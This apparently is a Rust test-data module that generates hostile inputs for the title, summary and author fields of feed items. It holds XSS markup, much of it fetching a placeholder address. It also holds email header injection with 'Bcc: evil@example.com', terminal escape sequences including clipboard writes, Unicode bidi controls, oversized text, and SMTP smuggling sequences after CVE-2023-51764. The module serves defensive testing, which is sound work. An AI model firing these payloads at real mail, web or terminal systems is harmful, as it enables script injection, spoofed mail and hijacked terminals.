//! What hostile texts hold: markup, header lines, controls, ends of mails. Each stands in the title, the summary and the author of
//! an item of a feed.

/// What an attack aims at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Aim {
    /// Nothing: the mail others are compared with.
    Harmless,
    /// To be taken for markup.
    Markup,
    /// To add a header.
    Header,
    /// To reorder the words beside it, or to hide.
    Order,
    /// To steer a terminal.
    Terminal,
    /// To fill the mail, or paint over its lines.
    Size,
    /// To end the mail and begin another.
    Smuggle,
}

/// How a text stands in a feed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    /// Escaped once: a title that holds HTML.
    Html,
    /// Escaped twice: HTML that shows the text.
    Text,
    /// Unescaped, in a CDATA section.
    CData,
}

pub struct Payload {
    pub aim: Aim,
    pub form: Form,
    pub text: String,
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

impl Payload {
    /// The text with its words around it, as it stands in the feed. XML has no way to say most control characters, so they are
    /// said as HTML says them.
    pub fn printed(&self, before: &str, after: &str) -> String {
        let text: String = self.text.chars().fold(String::new(), |mut text, c| {
            match c {
                '\0'..='\u{1f}' if self.form == Form::Text => text += &format!("\u{1}{};", u32::from(c)),
                '\0'..='\u{1f}' if !matches!(c, '\t' | '\r' | '\n') => text.push('\u{fffd}'),
                c => text.push(c),
            }
            text
        });
        match self.form {
            Form::Html => format!("{before}{}{after}", escaped(&text)),
            Form::Text => format!("{before}{}{after}", escaped(&escaped(&text)).replace('\u{1}', "&amp;#")),
            Form::CData => format!("<![CDATA[{before}{text}{after}]]>"),
        }
    }
}

/// Markup that runs, fetches or frames something, and what breaks out of where text may stand. `HIT` is an address that notices.
const MARKUP: [&str; 67] = [
    "<script>alert(1)</script>",
    "<script src=HIT></script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=HIT onerror=alert(1)>",
    "</p></div></td></tr></table><script>alert(1)</script>",
    "<img src=HIT>",
    "<img src=x onerror=\"top.name='pwned'\">",
    "<img/src=HIT/onerror=alert(1)//",
    "<IMG SRC=\"HIT\" ONLOAD=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=HIT /></svg>",
    "<svg><image href=HIT /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=HIT onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=HIT></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=HIT></object>",
    "<embed src=HIT>",
    "<video src=HIT autoplay onerror=alert(1)>",
    "<audio src=HIT onloadstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=HIT>",
    "<link rel=preload as=image href=HIT>",
    "<style>@import 'HIT';</style>",
    "<style>*{background:url(HIT)}</style>",
    "<style>@font-face{font-family:x;src:url(HIT)}*{font-family:x}</style>",
    "</style><script>alert(1)</script>",
    "<p style=\"background:url(HIT)\">x</p>",
    "<div style=\"position:fixed;inset:0;background:#fff\">log in again</div>",
    "<base href=HIT>",
    "<meta http-equiv=refresh content=\"0;url=HIT\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"x\">",
    "<form action=HIT><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction=HIT>unsubscribe</button>",
    "<input type=image src=HIT>",
    "<isindex type=image src=HIT onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"HIT\">the article</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<table background=HIT><tr><td background=HIT>x</table>",
    "<!--><img src=HIT onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<script\u{b}>alert(1)</script\u{b}>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}} {% raw %} ${alert(1)}",
    "<b class=mark style=\"color:red\">Sahelwatch: confirmed by us</b>",
];

/// Two hundred texts that would be markup.
pub fn markup(hit: &str) -> Vec<Payload> {
    let each = |text: &&str| {
        let text = text.replace("HIT", hit);
        [Form::Html, Form::Text, Form::CData].map(|form| Payload { aim: Aim::Markup, form, text: text.clone() })
    };
    MARKUP.iter().flat_map(each).collect()
}

/// Forty texts that would be headers.
pub fn headers() -> Vec<Payload> {
    const BREAKS: [&str; 10] =
        ["\r\n", "\n", "\r", "\0", "\u{2028}", "\u{2029}", "\u{85}", "\u{b}", "\u{c}", "\r\n\r\n"];
    const LINES: [&str; 3] = ["Bcc: evil@example.com", "Content-Type: text/html", "Subject: all is well"];
    let broken = BREAKS.iter().flat_map(|sign| LINES.iter().map(move |line| format!("{sign}{line}{sign}")));
    let encoded = [
        "=?utf-8?q?=0D=0ABcc:_evil@example.com?=",
        "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?=",
        "=?utf-7?q?+AA0ACg-Bcc:?=",
        "=\u{200b}?utf-8?q?=0ABcc:?=",
        "\",\"<evil@example.com>",
        "<evil@example.com>, ",
        "%0d%0aBcc: evil@example.com",
        "\\r\\nBcc: evil@example.com",
        "\u{560a}\u{560d}Bcc: evil@example.com",
        "\u{feff}\n\u{feff}Bcc: evil@example.com",
    ];
    broken.chain(encoded.map(str::to_owned)).map(|text| Payload { aim: Aim::Header, form: Form::Text, text }).collect()
}

/// Unicode `PropList.txt`, Bidi_Control: all twelve.
pub const BIDI: [char; 12] = [
    '\u{061C}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}',
    '\u{2067}', '\u{2068}', '\u{2069}',
];

/// Each control within a word, which is to be whole afterwards.
pub fn order() -> Vec<Payload> {
    let each = |c: &char| {
        [Form::Html, Form::Text].map(|form| Payload { aim: Aim::Order, form, text: format!("{c}tr{c}ap{c}") })
    };
    BIDI.iter().flat_map(each).collect()
}

/// Sequences that colour, move, ring, rename, link or clear (ECMA-48, xterm), in seven and in eight bits.
pub fn terminal() -> Vec<Payload> {
    let texts = [
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}[1A\u{1b}[2K",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P$q\u{1b}\\",
        "\u{1b}c",
        "\u{1b}(0",
        "\u{9b}31m",
        "\u{9d}0;owned\u{9c}",
        "\u{90}x\u{9c}",
        "\u{7}\u{7}\u{7}",
        "\u{8}\u{8}\u{8}over",
        "first\rsecond",
        "\u{e}shift\u{f}",
        "\u{7f}\u{7f}",
        "\u{1b}[?1049h",
        "\u{1b}[6n",
        "\u{1b}Z",
    ];
    texts.map(|text| Payload { aim: Aim::Terminal, form: Form::Text, text: text.to_owned() }).into()
}

pub fn size() -> Vec<Payload> {
    let texts = [
        "x".repeat(1 << 20),
        "mot ".repeat(250_000),
        // Short enough not to be cut, so that it is the marks that are bounded.
        format!("z{}algo", "\u{301}\u{302}\u{316}\u{317}".repeat(50)),
        "z\u{489}\u{334}\u{335}".repeat(3_000),
        "\u{fdfd}".repeat(20_000),
        "👩‍👩‍👧‍👦".repeat(5_000),
    ];
    texts.map(|text| Payload { aim: Aim::Size, form: Form::Text, text }).into()
}

/// Ends of a mail (CVE-2023-51764 and its like), and what would follow.
pub fn smuggle() -> Vec<Payload> {
    const ENDS: [&str; 10] = [
        "\r\n.\r\n",
        "\n.\n",
        "\n.\r\n",
        "\r\n.\n",
        "\r.\r",
        "\r\n.\r",
        "\r\n\0.\r\n",
        ".\r\n",
        "\r\n..\r\n",
        "\r\n.\r\n.\r\n",
    ];
    let rest = "MAIL FROM:<evil@example.com>\r\nRCPT TO:<desk@example.org>\r\nDATA\r\nSubject: all is well\r\n\r\nx";
    let each = |end: &&str| Payload { aim: Aim::Smuggle, form: Form::Text, text: format!("{end}{rest}{end}") };
    ENDS.iter().map(each).collect()
}

/// All of them, a harmless one first.
pub fn all(hit: &str) -> Vec<Payload> {
    let harmless = Payload { aim: Aim::Harmless, form: Form::Text, text: "sans rien de plus".to_owned() };
    let parts = [vec![harmless], markup(hit), headers(), order(), terminal(), size(), smuggle()];
    parts.into_iter().flatten().collect()
}
